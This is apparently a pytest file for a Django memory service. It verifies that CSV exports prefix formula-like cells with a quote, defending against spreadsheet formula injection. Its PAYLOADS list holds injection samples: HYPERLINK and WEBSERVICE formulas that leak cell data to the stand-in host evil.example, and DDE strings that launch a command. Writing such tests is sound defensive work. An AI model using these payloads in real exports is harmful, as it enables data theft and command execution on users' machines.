"""CSV exports keep formulas as text (OWASP CSV injection): what an API key writes as a memory
comes back from `/people/{id}/export?format=csv` as text a spreadsheet shows, never runs."""

import csv
import io
import json

import pytest
from django.utils import timezone

from memory.core import spreadsheet
from memory.models import Person

pytestmark = pytest.mark.django_db

# One of each kind OWASP names, and the same behind whitespace a spreadsheet skips.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click for the care plan")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
]


def formula_like(text: str) -> bool:
    return text.lstrip(" \t\r\n\v\f\u00a0").startswith(spreadsheet.FORMULA_STARTS) or (
        text.startswith(spreadsheet.FORMULA_STARTS)
    )


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_kept_as_text(payload):
    safe = spreadsheet.cell(payload)
    assert safe == "'" + payload
    assert not formula_like(safe)


@pytest.mark.parametrize("text", ["Her son is Tom", "", "'already quoted", "1+1", "a=b"])
def test_ordinary_text_is_unchanged(text):
    assert spreadsheet.cell(text) == text


def test_a_lone_dash_and_negative_text_are_kept_as_text_numbers_stay_numbers():
    assert spreadsheet.cell("-") == "'-"
    assert spreadsheet.cell("-5") == "'-5"
    assert spreadsheet.cell(-0.5) == -0.5 and spreadsheet.cell(3) == 3
    assert spreadsheet.cell(None) is None and spreadsheet.cell(True) is True


def test_every_cell_is_quoted_so_text_cannot_start_a_cell_or_a_row():
    text = spreadsheet.csv_text(["a", "b"], [['x","=1+1', "line\n=2+2"]])
    assert rows_of(text) == [{"a": 'x","=1+1', "b": "line\n=2+2"}]
    assert text.splitlines()[0] == '"a","b"'


def test_an_api_keys_memories_come_back_from_the_csv_export_as_text(api):
    now = timezone.now()
    person = Person.objects.create(display_name="Margaret", created_at=now, last_active_at=now)
    for index, payload in enumerate(PAYLOADS):
        response = api.client.put(
            "/api/v1/memories",
            json.dumps(
                {
                    "namespace": ["memories", str(person.id), "notes"],
                    "key": f"note-{index}",
                    "content": payload,
                }
            ),
            content_type="application/json",
            headers=api.headers,
        )
        assert response.status_code == 201, response.content
    exported = api.get(f"/api/v1/people/{person.id}/export", format="csv")
    assert exported.status_code == 200
    rows = rows_of(exported.content.decode())
    assert sorted(row["content"] for row in rows) == sorted("'" + p for p in PAYLOADS)
    for row in rows:
        assert not any(formula_like(value) for value in row.values()), row
